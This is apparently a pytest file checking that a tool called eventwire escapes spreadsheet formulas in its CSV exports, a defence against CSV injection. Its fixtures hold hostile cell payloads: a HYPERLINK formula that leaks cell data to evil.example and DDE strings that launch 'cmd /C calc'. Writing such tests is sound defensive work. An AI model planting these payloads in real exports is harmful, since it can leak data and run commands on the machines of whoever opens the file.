"""Spreadsheet-safe CSV: every CSV eventwire writes (events, export, extract, the API's export) gives a
text cell starting with = + - @ TAB or CR a leading ' (OWASP's rule against CSV injection); numbers are
left alone; --no-csv-escape / csv_escape=false write the cells as they are."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from eventwire.cli import main
from eventwire.export import render_results
from eventwire.export.cells import FORMULA_STARTS, spreadsheet_safe
from eventwire.export.events import render_events
from eventwire.records import Claim, Event, Evidence, ExtractionResult, Location, Report
from eventwire.store import Store
from eventwire.store.queries import list_events

TEXT = '=HYPERLINK("http://evil.example/?"&A1,"Click") A strike killed 4 people, officials said.'
PLACE = Location("-2+3 Town", "UA", "@Oblast", 49.98, -36.25, 706483, 1, "city", "-2+3 Town")


def hostile_event() -> Event:
    start = TEXT.index("4")
    claim = Claim(kind="killed", value=4, qualifier="exact", evidence=Evidence(TEXT, start, start + 1, "4"),
                  source="@SUM(1+1)*cmd|' /C calc'!A0")
    return Event(date=date(2024, 2, 10), date_precision="day", locations=[PLACE], event_type="Battles",
                 sub_event_type="Armed clash", actor1="+cmd|' /C calc'!A0", actor2="\t=1+1", fatalities=4,
                 injured=None, source=claim.source, source_role=None, verified=None, claims=[claim])


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "e.db"
    with Store(path) as store:
        report = Report("r", TEXT, date(2024, 2, 10), None, "https://x.example/r")
        store.add(report, ExtractionResult("r", date(2024, 2, 10), "batch", [hostile_event()]))
    return path


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def assert_safe(rows: list[dict[str, str]]) -> None:
    """No text cell a spreadsheet would run as a formula (a number such as -36.25 is a number)."""
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS) or is_number(value), (column, value)


def test_csv_injection_rule() -> None:
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(f"{start}x") == f"'{start}x"
    assert spreadsheet_safe("Kharkiv") == "Kharkiv" and spreadsheet_safe(-36.25) == -36.25
    assert spreadsheet_safe(-4) == -4 and spreadsheet_safe(None) is None


@pytest.mark.parametrize("output_format", ["acled-csv", "csv"])
def test_csv_injection_store_exports(db: Path, output_format: str) -> None:
    with Store(db, mode="read") as store:
        found = list_events(store, detail=True)
    rows = cells(str(render_events(found, output_format)))
    assert_safe(rows)
    (row,) = rows
    assert row["actor1"] == "'+cmd|' /C calc'!A0" and row["actor2"] == "'\t=1+1"
    assert row["location"] == "'-2+3 Town" and row["admin1"] == "'@Oblast" and row["longitude"] == "-36.25"
    if output_format == "acled-csv":
        assert row["notes"].startswith("'=HYPERLINK(") and row["source"].startswith("'@SUM")
    raw = cells(str(render_events(found, output_format, csv_escape=False)))[0]
    assert raw["actor1"] == "+cmd|' /C calc'!A0" and raw["location"] == "-2+3 Town"


def test_csv_injection_extract_csv() -> None:
    result = ExtractionResult("=r", date(2024, 2, 10), "batch", [hostile_event()])
    rows = cells(render_results([result], "csv"))
    assert_safe(rows)
    assert rows[0]["report_id"] == "'=r" and rows[0]["source"].startswith("'@SUM")
    assert cells(render_results([result], "csv", csv_escape=False))[0]["actor1"] == "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("command", ["events", "export"])
def test_csv_injection_command_line(db: Path, command: str) -> None:
    arguments = [command, "--db", str(db), "--format", "csv"]
    escaped = CliRunner().invoke(main, arguments)
    assert escaped.exit_code == 0, escaped.stderr
    assert_safe(cells(escaped.stdout))
    raw = CliRunner().invoke(main, [*arguments, "--no-csv-escape"])
    assert cells(raw.stdout)[0]["actor1"] == "+cmd|' /C calc'!A0"


def test_csv_injection_api_export(db: Path) -> None:
    from fastapi.testclient import TestClient

    from eventwire.web import ServerSettings, create_app

    with TestClient(create_app(ServerSettings(db=db)), base_url="http://localhost") as client:
        for output_format in ("acled-csv", "csv"):
            answer = client.get(f"/api/v1/export?format={output_format}")
            assert answer.status_code == 200
            assert_safe(cells(answer.text))
        raw = client.get("/api/v1/export?format=acled-csv&csv_escape=false")
        assert cells(raw.text)[0]["notes"].startswith("=HYPERLINK(")
